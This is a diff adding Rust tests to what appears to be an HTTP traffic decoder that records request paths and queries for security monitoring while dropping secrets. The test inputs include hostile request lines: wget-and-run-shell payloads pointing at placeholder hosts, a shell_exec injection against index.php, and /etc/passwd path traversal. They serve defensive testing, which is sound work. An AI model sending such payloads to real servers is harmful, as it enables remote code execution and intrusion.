@@ -1,6 +1,6 @@
 use super::REGISTRATION;
 use crate::decode::{Peek, Side, Verdict, drive};
-use hangtu_record::Transport;
+use hangtu_record::{FieldName, Transport};
 
 #[test]
 fn keep_alive_with_sized_and_chunked_bodies() {
@@ -161,6 +161,65 @@ fn of_a_query_what_attacks_carry_is_kept_and_no_secret() {
     assert_eq!(long, format!("{}../../x", "y".repeat(40)));
     let many: Vec<String> = (0..40).map(|n| format!("f=../{n}")).collect();
     assert_eq!(queries(&format!("/a?{}", many.join("&"))).split(' ').count(), 16);
+}
+
+#[test]
+fn raw_spaces_do_not_end_a_target() {
+    let told = |line: &str| {
+        let told = told(&[&format!("{line} HTTP/1.1\r\n\r\n")]);
+        assert!(!told.contains("hunter2"), "{told}");
+        told.lines().skip(1).collect::<Vec<_>>().join(", ")
+    };
+    let shell = "GET /shell?cd /tmp;wget http://192.0.2.1/x;sh x";
+    let query = "url.query = cd /tmp;wget http://192.0.2.1/x;sh x";
+    assert_eq!(told(shell), format!("url.path = /shell, {query}"));
+    assert_eq!(
+        told("GET /index.php?s=/index/&vars[0]=shell_exec&vars[1][]='wget http://b/x -O x; sh x'"),
+        "url.path = /index.php, url.query = vars[1][]='wget http://b/x -O x; sh x'"
+    );
+    assert_eq!(told("GET  /a b.htm HTTP/1.1 "), "url.path = /a b.htm HTTP/1.1");
+    assert_eq!(told("GET "), "");
+    // Of what may hold a secret the mark alone, here as well.
+    assert_eq!(
+        told("GET /a?password = hunter2;curl http://b"),
+        "url.path = /a, url.query = curl http"
+    );
+    assert_eq!(
+        told("GET http://bob:hunter2 x@c/a b"),
+        "url.path = /a b, user.name = bob, url.domain = c"
+    );
+}
+
+/// The paths and queries that the requests of a client tell which has that many user agents.
+fn parts<'t>(agents: usize, targets: impl Iterator<Item = &'t str>) -> Vec<String> {
+    let request = |(n, target): (usize, &str)| {
+        format!("GET {target} HTTP/1.1\r\nUser-Agent: {}\r\n\r\n", n % agents)
+    };
+    let asked = targets.enumerate().map(request).collect::<Vec<_>>().concat();
+    let (_, facts) = drive(&REGISTRATION, Transport::Tcp, [(Side::Client, asked.as_bytes())]);
+    let names = [FieldName::UrlPath, FieldName::UrlQuery];
+    let parts = facts.iter().filter(|(name, _)| names.contains(name));
+    parts.map(|(_, value)| value.as_value().to_string()).collect()
+}
+
+#[test]
+fn attacks_have_room_behind_whatever_else_was_asked() {
+    let attack = "/a/../../etc/passwd";
+    // One page again and again.
+    let polled = std::iter::repeat_n("/data", 200).chain([attack, "/other"]);
+    assert_eq!(parts(1, polled), ["/data", attack, "/other"]);
+    // Many pages, and an attack that only the query tells.
+    let pages: Vec<String> = (0..200).map(|n| format!("/{n}")).collect();
+    let behind = [attack, "/shell?cd /tmp", "/more"];
+    let told = parts(200, pages.iter().map(String::as_str).chain(behind));
+    assert_eq!(told.len(), 32 + 3);
+    assert_eq!(told[31..], ["/31", attack, "/shell", "cd /tmp"]);
+    // Many attacks: room for some of their paths and, behind those, for queries.
+    let attacks: Vec<String> = (0..200).map(|n| format!("/../../{n}")).collect();
+    let all = pages.iter().chain(&attacks).map(String::as_str).chain(["/b?f=../../x"]);
+    let told = parts(200, all);
+    assert_eq!(told.len(), 48 + 1);
+    assert_eq!(told[47..], ["/../../15", "f=../../x"]);
 }
 
 #[test]
